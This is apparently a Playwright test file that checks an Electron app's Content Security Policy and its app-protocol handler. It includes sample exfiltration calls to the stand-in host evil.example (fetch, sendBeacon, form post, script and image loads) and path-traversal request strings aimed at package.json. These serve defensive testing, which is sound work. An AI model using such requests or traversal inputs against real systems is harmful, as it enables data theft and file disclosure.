import type { Page } from '@playwright/test';
import type { Probe } from './probe.ts';

/** Does something in the page that the policy forbids, and resolves to the directive that stopped it. */
function violation(page: Page, act: string): Promise<string> {
  return page.evaluate(
    (act) =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
          once: true,
        });
        const add = (tag: string, own: object) => document.head.append(Object.assign(document.createElement(tag), own));
        const acts: Record<string, () => unknown> = {
          'an inline script': () => add('script', { textContent: 'window.wasRun = true' }),
          'a script from elsewhere': () => add('script', { src: 'https://evil.example/a.js' }),
          'a script in data': () => add('script', { src: 'data:text/javascript,window.wasRun=true' }),
          // Later, since what the devtools run may make scripts of text.
          'a script that is made of text': () => setTimeout('window.wasRun = true'),
          'a handler in an attribute': () => {
            document.body.setAttribute('onclick', 'window.wasRun = true');
            document.body.click();
          },
          'a worker of text': () => {
            try {
              new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
            } catch {}
          },
          'a style without the nonce': () => add('style', { textContent: 'p { color: red }' }),
          'an image from elsewhere': () => Object.assign(new Image(), { src: 'https://evil.example/a.png' }),
          'a request to elsewhere': () => fetch('https://evil.example/').catch(() => {}),
          'a request to a receiver': () => fetch('http://127.0.0.1:8080/').catch(() => {}),
          'a WebSocket to this machine': () => {
            try {
              new WebSocket('ws://127.0.0.1:8080/');
            } catch {}
          },
          'a beacon': () => navigator.sendBeacon('https://evil.example/', 'x'),
          'a frame': () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/' })),
          'an object': () => document.body.append(Object.assign(document.createElement('object'), { data: '/' })),
          'a form': () => {
            const form = document.createElement('form');
            Object.assign(form, { action: 'https://evil.example/', method: 'post' });
            document.body.append(form);
            form.submit();
          },
          'another base address': () => add('base', { href: 'https://evil.example/' }),
        };
        acts[act]?.();
      }),
    act,
  );
}

const stopped: readonly (readonly [act: string, directive: string])[] = [
  ['an inline script', 'script-src-elem'],
  ['a script from elsewhere', 'script-src-elem'],
  ['a script in data', 'script-src-elem'],
  ['a script that is made of text', 'script-src'],
  ['a handler in an attribute', 'script-src-attr'],
  ['a worker of text', 'worker-src'],
  ['a style without the nonce', 'style-src-elem'],
  ['an image from elsewhere', 'img-src'],
  ['a request to elsewhere', 'connect-src'],
  ['a request to a receiver', 'connect-src'],
  ['a WebSocket to this machine', 'connect-src'],
  ['a beacon', 'connect-src'],
  ['a frame', 'frame-src'],
  ['an object', 'object-src'],
  ['a form', 'form-action'],
  ['another base address', 'base-uri'],
];

const byPolicy = stopped.map(
  ([act, directive]): Probe => ({
    item: 7,
    what: `${act} is stopped by the policy`,
    act: async ({ page }) => [await violation(page, act), await page.evaluate(() => 'wasRun' in window)],
    must: [directive, false],
    faults: /Content Security Policy|EvalError/,
  }),
);

const asked = (path: string, method: string, status: number): Probe => ({
  item: 18,
  what: `the app protocol answers ${method} ${path} with ${status}`,
  act: ({ page }) =>
    page.evaluate(([path, method]) => fetch(path, { method }).then(({ status }) => status), [path, method] as const),
  must: status,
  faults: /Failed to load resource/,
});

/** What the page may load and run, and where from. */
export const policyProbes: readonly Probe[] = [
  ...byPolicy,
  {
    item: 7,
    what: 'the policy comes as a header of the page, with a nonce of each load',
    act: ({ page }) =>
      page.evaluate(async () => {
        const answers = [await fetch('/'), await fetch('/')];
        const policies = answers.map(({ headers }) => headers.get('content-security-policy') ?? '');
        const begins = /^default-src 'none'; script-src 'self'; style-src 'self' 'nonce-[\w-]{22}'; /;
        return [...policies.map((policy) => begins.test(policy)), policies[0] === policies[1]];
      }),
    must: [true, true, false],
  },
  {
    item: 1,
    what: 'everything that the page loads comes from the app',
    act: async ({ page, main }) => {
      const own = page.url();
      const urls: string[] = [];
      page.on('request', (request) => urls.push(request.url()));
      await page.reload();
      await page.waitForLoadState('load');
      const shown = await main.evaluate(
        ({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.mainFrame.url,
        null,
      );
      return [urls.length > 1, urls.filter((url) => !url.startsWith(own) && !url.startsWith('data:')), shown];
    },
    must: [true, [], 'app://console/'],
  },
  asked('/..%2f..%2fpackage.json', 'GET', 400),
  asked('/..%5c..%5cpackage.json', 'GET', 400),
  asked('/%00', 'GET', 400),
  asked('/package.json', 'GET', 404),
  asked('/', 'POST', 405),
];
